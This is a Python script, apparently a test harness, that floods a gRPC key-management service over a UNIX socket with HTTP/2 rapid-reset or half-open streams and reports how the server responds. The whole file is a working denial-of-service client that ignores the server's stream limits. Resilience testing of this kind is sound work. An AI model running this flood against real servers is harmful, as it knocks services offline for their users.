"""A hostile HTTP/2 client on a UNIX socket: rapid reset or half-open streams.

    python h2flood.py rapid-reset SOCKET COUNT   # HEADERS + RST_STREAM pairs, one connection
    python h2flood.py half-open SOCKET COUNT     # HEADERS without END_STREAM, never finished

Frames are built with hyperframe and hpack (the frame and header layers of the `h2`
package), not with h2's connection state machine: an attacker ignores the server's
SETTINGS_MAX_CONCURRENT_STREAMS, and h2 would refuse to. The client still ACKs the
server's SETTINGS and PINGs, as a real client must to keep the connection up.

Runs in its own process so that its CPU is not the measuring client's. Prints one line of
JSON (what was sent, what came back) and exits after `--hold` seconds.
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import threading
import time
from collections import Counter

from hpack import Encoder
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
BATCH = 500  # pairs per write: one syscall carries many frames, as an attacker's would

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/v2.KeyManagementService/Status"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


class Connection:
    def __init__(self, path: str) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(30)
        self.sock.connect(path)
        self.lock = threading.Lock()
        self.received: Counter[str] = Counter()
        self.closed = threading.Event()
        self.send(PREFACE + SettingsFrame(0).serialize())
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data: bytes) -> None:
        with self.lock:
            self.sock.sendall(data)

    def _read_exact(self, size: int) -> bytes:
        chunks = bytearray()
        while len(chunks) < size:
            chunk = self.sock.recv(size - len(chunks))
            if not chunk:
                raise ConnectionError("closed")
            chunks += chunk
        return bytes(chunks)

    def _read(self) -> None:
        try:
            while True:
                frame, length = Frame.parse_frame_header(memoryview(self._read_exact(9)))
                frame.parse_body(memoryview(self._read_exact(length)))
                self.received[type(frame).__name__] += 1
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                    self.send(
                        PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize()
                    )
                elif isinstance(frame, RstStreamFrame):
                    self.received[f"RST_STREAM:{frame.error_code}"] += 1
                elif isinstance(frame, GoAwayFrame):
                    self.received[f"GOAWAY:{frame.error_code}"] += 1
        except (OSError, ConnectionError):
            pass
        except Exception as exc:  # a frame hyperframe cannot parse: note it and stop
            self.received[f"unparsed:{type(exc).__name__}"] += 1
        finally:
            self.closed.set()


def flood(path: str, mode: str, count: int) -> tuple[Connection, int]:
    """Send `count` streams; returns the connection and how many were written."""
    conn = Connection(path)
    encoder = Encoder()
    sent = 0
    stream_id = 1
    try:
        while sent < count:
            batch = bytearray()
            for _ in range(min(BATCH, count - sent)):
                headers = HeadersFrame(stream_id, flags=["END_HEADERS"])
                headers.data = encoder.encode(HEADERS)
                batch += headers.serialize()
                if mode == "rapid-reset":
                    batch += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
                stream_id += 2
                sent += 1
            conn.send(bytes(batch))
    except OSError:  # the server closed the connection: what it sent before counts
        pass
    return conn, sent


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["rapid-reset", "half-open"])
    parser.add_argument("socket")
    parser.add_argument("count", type=int)
    parser.add_argument("--hold", type=float, default=5.0, help="seconds to keep it open")
    args = parser.parse_args()
    started = time.monotonic()
    conn, sent = flood(args.socket, args.mode, args.count)
    written = time.monotonic() - started
    conn.closed.wait(args.hold)
    result = {
        "mode": args.mode,
        "sent": sent,
        "write_seconds": round(written, 3),
        "server_closed": conn.closed.is_set(),
        "received": dict(conn.received),
    }
    print(json.dumps(result), flush=True)
    conn.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
